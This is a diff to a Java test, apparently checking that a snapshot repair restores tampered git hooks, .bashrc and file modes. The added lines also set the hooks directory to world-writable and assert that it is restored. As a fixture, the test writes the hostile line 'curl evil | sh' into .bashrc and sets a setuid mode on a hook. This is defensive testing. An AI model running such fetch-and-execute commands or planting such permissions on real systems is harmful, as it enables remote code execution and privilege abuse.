@@ -69,6 +69,7 @@ class ProtectedSnapshotTest {
         Files.delete(ws.resolve(".git/hooks/pre-push.sample"));
         Files.writeString(ws.resolve(".bashrc"), "curl evil | sh\n");
         Files.setAttribute(ws.resolve(".git/hooks/update.sample"), "unix:mode", 04755, LinkOption.NOFOLLOW_LINKS);
+        Files.setAttribute(ws.resolve(".git/hooks"), "unix:mode", 0777, LinkOption.NOFOLLOW_LINKS);
 
         var done = all(snapshot.repair(snapshot.scanningLocator()));
         assertFalse(Files.exists(hook, LinkOption.NOFOLLOW_LINKS), done);
@@ -78,7 +79,8 @@ class ProtectedSnapshotTest {
         assertTrue(Files.exists(ws.resolve(".git/hooks/pre-push.sample")), done);
         assertEquals("# mine\n", Files.readString(ws.resolve(".bashrc")));
         assertEquals(0755, (int) Files.getAttribute(ws.resolve(".git/hooks/update.sample"), "unix:mode") & 07777, done);
-        for (var name : List.of("pre-commit", ".git/config ", "pre-push.sample", ".bashrc", "update.sample")) {
+        assertEquals(0755, (int) Files.getAttribute(ws.resolve(".git/hooks"), "unix:mode") & 07777, done);
+        for (var name : List.of("pre-commit", ".git/config ", "pre-push.sample", ".bashrc", "update.sample", "hooks: the run changed its mode")) {
             assertTrue(done.contains(name), name + " is named: " + done);
         }
         assertEquals(List.of(), snapshot.repair(snapshot.scanningLocator()), "halt's own copies are not changes");
